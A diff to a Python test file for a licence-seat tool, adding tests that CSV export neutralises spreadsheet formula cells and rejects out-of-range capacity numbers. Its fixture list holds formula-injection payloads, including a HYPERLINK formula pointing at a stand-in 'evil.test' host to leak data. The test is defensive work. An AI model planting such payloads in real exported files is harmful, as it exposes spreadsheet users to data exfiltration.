@@ -160,6 +160,40 @@ def test_export_of_a_scripted_day_is_exact_and_plan_and_recommend_agree(
     assert json.loads(recommended) == json.loads(planned)
 
 
+FORMULAS = [
+    '=hyperlink("http://evil.test/?leak","open me")',
+    "+1+1@x.org",
+    "-2@x.org",
+    "@sum(a1)@x.org",
+    "'=already-quoted@x.org",
+]
+
+
+def test_export_neutralises_formula_cells_and_plan_reads_them_back(
+    instance: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    async def setup(engine: LicenceEngine) -> None:
+        await engine.configure(concurrent_seats=10, named_seats=0)
+        for number, who in enumerate([*FORMULAS, "plain@x.org"]):
+            await engine.admit(who, f"s{number}")
+            await engine.release(who, f"s{number}")
+
+    on(instance, setup)
+    status, out, err = run_cli(capsys, "export", "--since", "2000-01-01", "--until", "2100-01-01")
+    assert status == 0, err
+    people = [row[0] for row in csv.reader(io.StringIO(out))][1:]
+    assert sorted(people) == sorted(["'" + who for who in FORMULAS] + ["plain@x.org"])
+    path = tmp_path / "usage.csv"
+    path.write_text(out)
+    from halo_gate.planner import read_usage_file
+
+    assert sorted(read_usage_file(path).people) == sorted([*FORMULAS, "plain@x.org"])
+    status, _, err = run_cli(
+        capsys, "plan", str(path), "--json", "--price-named", "100", "--price-concurrent", "140"
+    )
+    assert status == 0, err
+
+
 def test_status_json_is_the_usage_object(instance: str, capsys: pytest.CaptureFixture[str]) -> None:
     async def setup(engine: LicenceEngine) -> Any:
         await engine.configure(concurrent_seats=4, named_seats=2, named_users=["nan@x.org"])
@@ -197,6 +231,10 @@ def test_sessions_named_capacity_and_events(
     assert run_cli(capsys, "named", "remove", "cat@x.org")[0] == 0
     status, _, err = run_cli(capsys, "named", "add", "dan@x.org")
     assert status == 1 and "cools down" in err
+    for bad in ("100000000000000000000", "10000001", "²"):
+        with pytest.raises(SystemExit):
+            main(["capacity", "set", "--concurrent", bad])
+        assert "is not a whole number from 0 to 10,000,000" in capsys.readouterr().err
     status, out, _ = run_cli(capsys, "capacity", "set", "--concurrent", "7")
     assert status == 0 and "concurrent slots 7, named seats 1" in out
     status, out, _ = run_cli(capsys, "events", "--json", "--event", "resized", "--limit", "1")
